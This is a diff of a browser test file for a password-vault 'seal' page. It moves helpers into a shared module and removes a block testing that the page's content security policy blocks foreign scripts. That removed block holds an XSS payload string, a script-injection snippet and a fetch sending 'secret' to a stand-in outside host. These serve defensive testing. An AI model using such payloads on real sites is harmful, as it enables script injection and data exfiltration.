@@ -1,94 +1,32 @@
-/** The page that seals, in a real browser: what leaves it is a sealed box, and nothing but its own script runs in it. */
+/** The page that seals, in a real browser: what leaves it is a sealed box. */
 import { createHash } from "node:crypto"
-import { readFileSync } from "node:fs"
-import { createRequire } from "node:module"
 import { afterAll, beforeAll, describe, expect, it } from "vitest"
-import { openEntry } from "../../edge/sdk/vault/seal.ts"
-import type { VaultEntry } from "../../schemas/vault/records.ts"
-import { type TestBrowser, openBrowser, type Visit } from "../support/browser.ts"
 import { waitFor } from "../harness/index.ts"
 import { send } from "../support/http.ts"
-import { dataOf } from "../support/outcome.ts"
-import { type TestService, testService } from "../support/service.ts"
-import { asHolder, issueToken, oneTimeKey, VAULT, type WithVault, withVault } from "../support/vault.ts"
-import { overflow } from "./in-page.ts"
+import { VAULT } from "../support/vault.ts"
+import {
+  browser,
+  closeSealing,
+  edge,
+  entries,
+  field,
+  fill,
+  looksWell,
+  NARROW,
+  of,
+  opening,
+  openSealing,
+  PASSWORD,
+  press,
+  readBack,
+  SHOP,
+  sourceFor,
+  status,
+  watched
+} from "./sealing.ts"
 
-const AXE = readFileSync(createRequire(import.meta.url).resolve("axe-core/axe.min.js"), "utf8")
-const FIND = `axe.run(document, { resultTypes: ["violations"] }).then(({ violations }) =>
-  violations.map(({ id, nodes }) => ({ rule: id, at: nodes.map(({ html }) => html.slice(0, 120)) })))`
-const NARROW = { width: 360, height: 740 }
-const PASSWORD = "correct horse battery 18"
-const SHOP = "https://shop.example"
-
-let service: TestService
-let browser: TestBrowser
-let edge = ""
-let of: WithVault
-beforeAll(async () => {
-  service = await testService({ edges: 1, actors: 1, keeper: true })
-  edge = service.edges[0] ?? ""
-  browser = await openBrowser()
-  of = await withVault(service)
-})
-afterAll(async () => {
-  await browser?.stop()
-  await service?.stop()
-})
-
-const sourceFor = async (...kinds: ReadonlyArray<VaultEntry["kind"]>): Promise<{ id: number; token: string }> =>
-  dataOf(await of.client.call("POST", `${VAULT}/sources`, { body: { label: "A person", kinds } }))
-
-/** Everything that a page sends, as the browser itself tells it. */
-const watched = async ({ page }: Visit) => {
-  const sent: Array<{ readonly url: string; readonly text: string }> = []
-  const devtools = await page.context().newCDPSession(page)
-  await devtools.send("Network.enable")
-  devtools.on("Network.requestWillBeSent", ({ request }) => {
-    const { url, method, headers, postData = "" } = request
-    sent.push({ url, text: `${method} ${url} ${JSON.stringify(headers)} ${postData}` })
-  })
-  return sent
-}
-
-const opening = async (token: string, path = "/vault/seal"): Promise<Visit> => {
-  const visit = await browser.visit(`${edge}${path}`, { viewport: NARROW })
-  await visit.page.getByLabel("Token").fill(token)
-  await press(visit, "Go on")
-  return visit
-}
-
-const press = ({ page }: Visit, name: string) => page.getByRole("button", { name, exact: true }).click()
-const field = ({ page }: Visit, kind: string, name: string) => page.locator(`#seal-${kind}-${name}`)
-const fill = async (visit: Visit, kind: string, values: Readonly<Record<string, string>>): Promise<void> => {
-  for (const [name, value] of Object.entries(values)) await field(visit, kind, name).fill(value)
-}
-const status = async ({ page }: Visit, words: string | RegExp): Promise<void> =>
-  page.getByRole("status").filter({ hasText: words }).waitFor()
-
-const looksWell = async ({ page }: Visit): Promise<void> => {
-  // Playwright's own way in: the page's policy lets no other script run.
-  await page.evaluate(AXE)
-  expect(await page.evaluate(FIND)).toEqual([])
-  expect(await page.evaluate(overflow)).toBe(0)
-}
-
-const entries = async (): Promise<ReadonlyArray<VaultEntry>> => dataOf(await of.client.call("GET", `${VAULT}/entries`))
-
-const readBack = async (entry_id: number, action: string, more: object = {}): Promise<unknown> => {
-  const ask = asHolder(service, await issueToken(service, of.agent.id))
-  const key = await oneTimeKey()
-  const { ephemeral_public_key } = key
-  const loaded = dataOf<{ readonly public_key: string; readonly sealed_key: string }>(
-    await ask("POST", `${VAULT}/service/key`, { ephemeral_public_key })
-  )
-  const { ciphertext } = dataOf<{ readonly ciphertext: string }>(
-    await ask("POST", `${VAULT}/service/fill`, { entry_id, action, origin: SHOP, ...more })
-  )
-  return openEntry(ciphertext, {
-    public_key: Buffer.from(loaded.public_key, "base64"),
-    private_key: key.open(loaded.sealed_key)
-  })
-}
+beforeAll(openSealing)
+afterAll(closeSealing)
 
 it("has one script, known by its hash; is kept by nobody, found by nobody, framed by nobody", async () => {
   const { text, headers } = await send({ edge, method: "GET", path: "/vault/seal", headers: { accept: "text/html" } })
@@ -272,59 +210,6 @@ describe("what is wrong is told in its place", () => {
     await press(visit, "Seal and send")
     await status(visit, "This token is none")
     expect(await field(visit, "login", "password").inputValue()).toBe(PASSWORD)
-    await visit.close()
-  })
-})
-
-describe("no script but its own runs", () => {
-  const EVIL = `<img src="x" onerror="alert(1)"><script>alert(2)</script>`
-  const INJECT = `{
-    const script = document.createElement("script")
-    let refused = ""
-    try { script.text = "window.ran = true" } catch (error) { refused = error.name }
-    document.body.append(script)
-    try { document.body.insertAdjacentHTML("beforeend", "<b>") } catch (error) { refused += " " + error.name }
-    refused
-  }`
-
-  it("whatever the service answers, and whatever is typed", async () => {
-    const { token } = await sourceFor("login")
-    const visit = await browser.visit(`${edge}/vault/seal`)
-    await visit.page.route("**/api/v1/vault/source", (route) =>
-      route.fulfill({
-        json: {
-          ok: true,
-          data: { vault: EVIL, public_key: of.vault.public_key, status: EVIL, kinds: [EVIL, "login", "__proto__"] }
-        }
-      })
-    )
-    await visit.page.route("**/api/v1/vault/entries", (route) =>
-      route.fulfill({
-        status: 422,
-        json: { ok: false, error: { code: "validation_error", message: EVIL, details: { field: EVIL } } }
-      })
-    )
-    await visit.page.getByLabel("Token").fill(token)
-    await press(visit, "Go on")
-    await visit.page.getByText(`You write into the vault ${EVIL}`).waitFor()
-    await fill(visit, "login", { username: EVIL, password: EVIL, origins: SHOP, label: "<b>bold</b>" })
-    await press(visit, "Seal and send")
-    await status(visit, EVIL)
-    expect(await visit.page.evaluate("[document.images.length, document.scripts.length]")).toEqual([0, 1])
-    expect(visit.dialogs).toEqual([])
-    expect(visit.requests.filter((url) => !url.startsWith(`${edge}/`))).toEqual([])
-    expect(await visit.page.evaluate(INJECT)).toBe("TypeError TypeError")
-    expect(await visit.page.evaluate("window.ran")).toBeUndefined()
-    await visit.close()
-  })
-
-  it("and nothing is sent elsewhere", async () => {
-    const visit = await browser.visit(`${edge}/vault/seal`)
-    const tried = await visit.page.evaluate(
-      `fetch("https://elsewhere.example/?" + "secret").then(() => "sent", (error) => error.name)`
-    )
-    expect(tried).toBe("TypeError")
-    expect(visit.complaints.join("\n")).toContain("connect-src 'self'")
     await visit.close()
   })
 })
